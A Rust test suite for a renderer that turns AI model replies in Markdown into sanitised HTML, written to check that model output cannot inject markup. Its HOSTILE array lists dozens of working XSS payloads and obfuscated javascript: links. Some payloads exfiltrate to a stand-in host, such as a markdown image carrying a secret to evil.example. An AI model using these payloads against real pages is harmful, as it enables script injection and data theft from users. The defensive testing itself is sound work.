//! The renderer against what models write, and what they might be made to write.

use std::time::{Duration, Instant};

use super::*;

/// Text that tries to become more than text.
const HOSTILE: [&str; 58] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text y=9>x",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example>",
    "<object data=https://evil.example></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1) style=\"position:fixed\" ping=https://evil.example>x</a>",
    "<img name=body id=app src=x>",
    "<video poster=https://evil.example/?q=x></video>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<details open ontoggle=alert(1)>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "</div></body></html><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><!DOCTYPE x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/log_out)",
    "[x](https://ok.example \"a\\\" onmouseover=alert(1) b\")",
    "<javascript:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "[x]: javascript:alert(1)\n[x]",
    "![x](javascript:alert(1))",
    "![](https://evil.example/?q=SECRET)",
    "![x](https://evil.example/a.png \"t\")",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```rust\"onload=alert(1)\nfn main() {}\n```",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ x <img src=x onerror=alert(1)>\n<b>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [ ] <input onfocus=alert(1) autofocus>\n- [x] done",
    "$\\href{javascript:alert(1)}{x}$",
    "a\u{0}<scr\u{0}ipt>alert(1)</script>\u{2028}\u{feff}",
];

/// Text as models usually write it.
const ORDINARY: [&str; 6] = [
    "# Title\n\nSome *text* with `code` and a [link](https://ok.example).\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n---\n\nThe end.",
    "Text\n```rust\nfn main() {\n    let x = \"<b>\";\n}\n```\nmore\n\n    indented\n    code\n\nend",
    "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | ~~4~~ |\n\nafter",
    "> quoted\n> still\nlazy\n\n> > deeper\n\nSetext\n======\n\nOther\n---\n",
    "- [ ] open\n- [x] done\n\nline one\nline two\\\nline three\n\n日本語 😀 `ü`\n",
    "\n\n  leading\n\n* a\n\n  b\n\n* c\n\n[ref]: https://ok.example\n\n[ref] and **unclosed *emphasis\n",
];

/// Everything that may stand in a reply's markup, each tag with its attributes.
fn assert_harmless(html: &str, source: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let end = tag.find('>').unwrap_or_else(|| panic!("{source:?} leaves a tag open: {html}"));
        let name: String = tag.trim_start_matches('/').chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        assert!(SANITIZER.clone_tags().contains(name.as_str()), "{source:?} makes <{name}>: {html}");
        for attribute in attributes(&tag[..end]) {
            let known = ["align", "class", "href", "rel", "start", "tabindex", "target", "title"];
            assert!(known.contains(&attribute.0.as_str()), "{source:?} makes {attribute:?}: {html}");
            if attribute.0 == "href" {
                let is_safe = ["http://", "https://", "mailto:"].iter().any(|scheme| attribute.1.starts_with(scheme));
                assert!(is_safe, "{source:?} links to {:?}", attribute.1);
                assert!(tag[..end].contains("rel=\"noopener noreferrer nofollow\""), "{html}");
            }
        }
        rest = &tag[end + 1..];
    }
}

fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag;
    while let Some(at) = rest.find("=\"") {
        let name = rest[..at].rsplit(char::is_whitespace).next().unwrap_or_default();
        let value = &rest[at + 2..];
        let end = value.find('"').unwrap_or(value.len());
        found.push((name.to_owned(), value[..end].to_owned()));
        rest = &value[(end + 1).min(value.len())..];
    }
    found
}

fn all(text: &str) -> String {
    render_all(text).iter().map(SafeHtml::as_str).collect()
}

/// What a browser shows after each of these states of a growing text, and at the end.
fn live(states: impl Iterator<Item = usize>, text: &str) -> String {
    let mut renderer = Renderer::default();
    let (mut blocks, mut tail) = (Vec::<SafeHtml>::new(), SafeHtml::default());
    for end in states {
        let rendered = renderer.render(&text[..end]);
        assert!(rendered.first_block <= blocks.len());
        blocks.truncate(rendered.first_block);
        blocks.extend(rendered.blocks);
        tail = rendered.tail;
        for html in blocks.iter().chain([&tail]) {
            assert_harmless(html.as_str(), &text[..end]);
        }
    }
    blocks.iter().chain([&tail]).map(SafeHtml::as_str).collect()
}

/// Highlighting comes when a block is whole, and between blocks there may be a line end: a browser shows the same.
fn without_highlighting(html: &str) -> String {
    let mut plain = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(at) = rest.find("<span").into_iter().chain(rest.find("</span>")).min() {
        plain.push_str(&rest[..at]);
        rest = &rest[at..];
        rest = &rest[rest.find('>').map_or(rest.len(), |end| end + 1)..];
    }
    plain.push_str(rest);
    plain.replace(">\n", ">")
}

/// A fixed sequence that looks random.
struct Random(u64);

impl Random {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % bound
    }

    fn markdown(&mut self) -> String {
        let parts = [
            "# ",
            "- ",
            "1. ",
            "> ",
            "```",
            "\n",
            "\n\n",
            "    ",
            "*",
            "**",
            "`",
            "[",
            "](",
            ")",
            "<b>",
            "<",
            ">",
            "&lt;",
            "&",
            "|",
            "---",
            "x",
            "ü ",
            "https://a.b",
            "\\",
            "!",
            "~~",
            "\"",
            "- [ ] ",
            "[x]: /y\n",
        ];
        (0..self.below(60)).map(|_| parts[self.below(parts.len())]).collect()
    }
}

#[test]
fn r1_r3_r4_no_markup_of_a_models_own_survives() {
    for source in HOSTILE {
        let html = all(source);
        assert_harmless(&html, source);
        for word in [
            "<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<link", "<object", "<math",
            "<video",
        ] {
            assert!(!html.contains(word), "{source:?} makes {html}");
        }
    }
    assert_eq!(all("<b>bold</b> & <i>"), "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;</p>");
}

#[test]
fn r2_only_addresses_of_the_web_and_of_mail_become_links() {
    for (source, href) in [
        ("[x](https://ok.example/a?b=c&d)", "https://ok.example/a?b=c&amp;d"),
        ("[x](http://ok.example)", "http://ok.example"),
        ("[x](mailto:a@ok.example)", "mailto:a@ok.example"),
        ("<https://ok.example>", "https://ok.example"),
    ] {
        assert!(all(source).contains(&format!("href=\"{href}\"")), "{}", all(source));
    }
    for source in HOSTILE
        .iter()
        .filter(|source| source.contains("script:") || source.contains("data:") || source.contains("file:"))
    {
        assert!(!all(source).to_lowercase().contains("href=\""), "{source:?} links: {}", all(source));
    }
    let link = all("[x](https://ok.example)");
    assert!(link.contains("rel=\"noopener noreferrer nofollow\"") && link.contains("target=\"_blank\""), "{link}");
}

#[test]
fn r7_an_image_is_a_link_and_fetches_nothing() {
    let html = all("![a cat](https://evil.example/?q=SECRET \"title\")");
    assert!(
        html.contains("<a href=\"https://evil.example/?q=SECRET\"") && html.contains("a cat") && !html.contains("<img"),
        "{html}"
    );
}

#[test]
fn r5_every_state_of_a_growing_text_is_harmless_and_the_last_is_the_whole() {
    for source in HOSTILE.iter().chain(&ORDINARY) {
        let text = format!("Before.\n\n{source}\n\nAfter.");
        let whole = without_highlighting(&all(&text));
        let ends: Vec<usize> = (0..=text.len()).filter(|end| text.is_char_boundary(*end)).collect();
        assert_eq!(without_highlighting(&live(ends.iter().copied(), &text)), whole, "{source:?}");
        // However many characters come at a time.
        for step in [2, 3, 7, 50] {
            let some = ends.iter().copied().step_by(step).chain([text.len()]);
            assert_eq!(without_highlighting(&live(some, &text)), whole, "{source:?} by {step}");
        }
    }
}

#[test]
fn r5_a_growing_text_of_any_kind_ends_as_the_whole() {
    let mut random = Random(5);
    for _ in 0..400 {
        let text = random.markdown();
        let ends = (0..=text.len()).filter(|end| text.is_char_boundary(*end));
        assert_eq!(without_highlighting(&live(ends, &text)), without_highlighting(&all(&text)), "{text:?}");
    }
}

#[test]
fn r5_finished_blocks_never_change() {
    for source in ORDINARY {
        let (mut renderer, mut finished) = (Renderer::default(), Vec::new());
        for end in (0..=source.len()).filter(|end| source.is_char_boundary(*end)) {
            let rendered = renderer.render(&source[..end]);
            assert_eq!(rendered.first_block, finished.len());
            finished.extend(rendered.blocks);
        }
        assert_eq!(finished, render_all(source)[..finished.len()]);
    }
}

#[test]
fn r6_a_fences_language_is_a_word_and_nothing_more() {
    for source in ["```\"><script>alert(1)</script>\nx\n```", "```a\"b'c<d>&\nx\n```", "```a/../b\nx\n```"] {
        let html = all(source);
        assert_harmless(&html, source);
        assert!(!html.contains("<script") && html.contains("<code>"), "{html}");
    }
    assert!(all("```c++\nx\n```").contains("class=\"language-c++\""));
}

#[test]
fn r12_what_was_made_safe_stays_as_it_is() {
    let mut random = Random(12);
    let sources = HOSTILE.iter().chain(&ORDINARY).map(|source| (*source).to_owned());
    for source in sources.chain((0..600).map(|_| random.markdown())).collect::<Vec<_>>() {
        for block in render_all(&source) {
            assert_harmless(block.as_str(), &source);
            assert_eq!(sanitize(block.as_str()), block, "{source:?}");
        }
    }
}

#[test]
fn r14_no_text_takes_long() {
    let bytes = 64 * 1024;
    let repeated = |part: &str| part.repeat(bytes / part.len());
    for text in [
        repeated("[a](<b"),
        repeated("[ ("),
        repeated("[ (]("),
        repeated("a***"),
        format!("{}a", repeated("* ")),
        repeated("[*_a"),
        repeated("a <![CDATA["),
        repeated("a <!A"),
        repeated("a <?"),
        repeated("<!-- "),
        repeated("`a``b```"),
        repeated("[^a "),
        repeated("[^a]\n"),
        format!("[x]: {}\n{}", "x".repeat(bytes / 2), "[x]".repeat(bytes / 6)),
        repeated("![[]()"),
        repeated("&lt;&#x41;"),
        repeated("|a"),
        repeated("~~a"),
        repeated("\\"),
        repeated("<a href=\""),
    ] {
        assert_quick(&text);
    }
}

#[test]
fn r15_no_depth_breaks_the_stack() {
    for text in [
        ">".repeat(100_000),
        "> ".repeat(50_000),
        (0..2_000).map(|depth| format!("{}- x\n", " ".repeat(depth % 200 * 2))).collect(),
        "- ".repeat(10_000),
        "1. ".repeat(10_000),
        "[".repeat(50_000),
        "*a **b ".repeat(10_000),
        format!("{}\n{}\n{}", "|a".repeat(10_000), "|-".repeat(10_000), "|b".repeat(10_000)),
        format!("|a|\n|-|\n{}", "|b|\n".repeat(20_000)),
        "<b>".repeat(100_000),
        "```\n".repeat(20_000),
        "x".repeat(256 * 1024),
        "\n".repeat(256 * 1024),
        "# a\n".repeat(50_000),
    ] {
        assert_quick(&text);
    }
}

/// Rendered as a whole, and live in a few steps.
fn assert_quick(text: &str) {
    let started = Instant::now();
    let html: usize = render_all(text).iter().map(|block| block.as_str().len()).sum();
    let mut renderer = Renderer::default();
    for part in 1..=4 {
        renderer.render(&text[..text.floor_char_boundary(text.len() * part / 4)]);
    }
    let (elapsed, start) = (started.elapsed(), &text[..text.floor_char_boundary(20.min(text.len()))]);
    eprintln!("{elapsed:?} {html} {start:?}");
    assert!(elapsed < Duration::from_secs(10), "{start:?} took {elapsed:?}");
    assert!(html < 40 * text.len() + 1_000, "{start:?} became {html} bytes");
}

#[test]
fn r16_a_long_reply_is_not_rendered_anew_for_every_word() {
    let text = "A paragraph of a few words, as they come.\n\n".repeat(2_000);
    let mut renderer = Renderer::default();
    let mut blocks = 0;
    for end in (0..=text.len()).step_by(5) {
        let rendered = renderer.render(&text[..end]);
        blocks += rendered.blocks.len();
        assert!(renderer.open_bytes(&text[..end]) < 200);
    }
    assert_eq!(blocks, 1_999);
}

#[test]
fn code_is_highlighted_when_it_is_whole() {
    let code = "```rust\nfn main() { let x = \"<b>\"; }\n```";
    let html = all(code);
    assert!(html.starts_with("<pre class=\"code\" tabindex=\"0\"><code class=\"language-rust\">"), "{html}");
    assert!(html.contains("<span class=\"hl-") && html.contains("&lt;b&gt;"), "{html}");
    let mut renderer = Renderer::default();
    assert!(!renderer.render(code).tail.as_str().contains("hl-"));
    assert!(renderer.render(&format!("{code}\n\nNext.\n")).blocks[0].as_str().contains("hl-"));
    for plain in ["```\nfn main() {}\n```", "```nosuchlanguage\nfn main() {}\n```", "    fn main() {}"] {
        assert!(!all(plain).contains("hl-"), "{plain}");
    }
    let long = format!("```rust\n{}\n```", "fn f() {}\n".repeat(6_000));
    assert!(!all(&long).contains("hl-"));
}

#[test]
fn a_tables_columns_are_aligned_as_written() {
    let html = all("| a | b | c | d |\n|---|:--|:-:|--:|\n| 1 | 2 | 3 | 4 |\n");
    for cell in ["<th>a</th>", "<th align=\"left\">b</th>", "<td align=\"center\">3</td>", "<td align=\"right\">4</td>"]
    {
        assert!(html.contains(cell), "{cell} is missing in {html}");
    }
}
